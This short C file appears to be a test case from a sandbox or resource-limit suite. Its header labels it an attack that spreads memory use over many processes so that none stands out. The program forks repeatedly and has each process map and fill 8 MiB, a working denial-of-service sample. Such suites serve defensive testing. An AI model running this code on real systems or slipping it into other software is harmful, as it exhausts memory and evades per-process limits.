// Attack:  takes memory in many processes, so that none of them stands out
// Lab:     fork
// Defence: several
// Without: no-result
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

int main(void) {
  const size_t size = (size_t)8 << 20;
  alarm(60);
  for (int child = 0; child < 40; ++child) {
    if (fork() == 0) alarm(60);
    void* memory = mmap(NULL, size, PROT_READ | PROT_WRITE,
                        MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
    if (memory != MAP_FAILED) memset(memory, 1, size);
    if (getppid() != 1 && child % 2) pause();
  }
  pause();
}
